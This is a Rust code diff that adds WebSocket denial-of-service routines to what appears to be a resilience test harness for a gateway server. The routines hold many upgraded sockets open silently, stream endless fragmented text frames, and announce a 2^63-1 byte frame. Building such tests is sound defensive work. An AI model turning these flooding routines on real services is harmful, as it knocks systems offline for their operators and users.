@@ -1,6 +1,7 @@
 //! Attacks with requests of HTTP/1.1: heads and bodies that are endless, slow, huge, or deep.
 
 use anyhow::Result;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 
 use super::force::{Force, repeated};
 use super::victim::{Port, Victim};
@@ -102,6 +103,51 @@ pub(super) async fn deaf_gateway_watches(victim: &Victim, count: usize) -> Resul
     let chunk = [format!("{:x}\r\n", create.len()).as_bytes(), create, b"\r\n"].concat();
     let head = post("/v3/watch", "Transfer-Encoding: chunked\r\n");
     force.flood(victim.connect(Port::Plain).await?, head, repeated(chunk, count), true);
+    Ok(force)
+}
+
+/// Asks for a WebSocket.
+fn upgrade(path: &str) -> Vec<u8> {
+    format!(
+        "GET {path} HTTP/1.1\r\nHost: attack\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
+         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n"
+    )
+    .into_bytes()
+}
+
+/// WebSockets on which nothing is said.
+pub(super) async fn silent_websockets(victim: &Victim, count: usize) -> Result<Force> {
+    Force::hold(victim, Port::Plain, count, &upgrade("/v3/watch")).await
+}
+
+/// Messages over WebSockets without an end, in pieces, or announced to be as long as can be.
+pub(super) async fn endless_websocket_messages(victim: &Victim) -> Result<Force> {
+    const MASK: [u8; 4] = [0; 4];
+    let mut force = Force::default();
+    for (first_frame, later_frame) in [
+        // Text that goes on, and goes on.
+        (&[0x01, 0x80][..], Some([0x00, 0xff])),
+        // A frame of 2^63 - 1 bytes.
+        (&[0x81, 0xff, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff], None),
+    ] {
+        for path in ["/v3/watch", "/v3/kv/put"] {
+            let mut socket = victim.connect(Port::Plain).await?;
+            socket.write_all(&upgrade(path)).await?;
+            let mut head = Vec::new();
+            while !head.ends_with(b"\r\n\r\n") {
+                head.push(socket.read_u8().await?);
+            }
+            let mut piece = Vec::new();
+            if let Some(frame) = later_frame {
+                piece.extend_from_slice(&frame);
+                piece.extend_from_slice(&(PIECE_BYTES as u64).to_be_bytes());
+                piece.extend_from_slice(&MASK);
+            }
+            piece.resize(piece.len() + PIECE_BYTES, b' ');
+            let first = [first_frame, &MASK].concat();
+            force.flood(socket, first, repeated(piece, FLOOD_BYTES / PIECE_BYTES), false);
+        }
+    }
     Ok(force)
 }
 
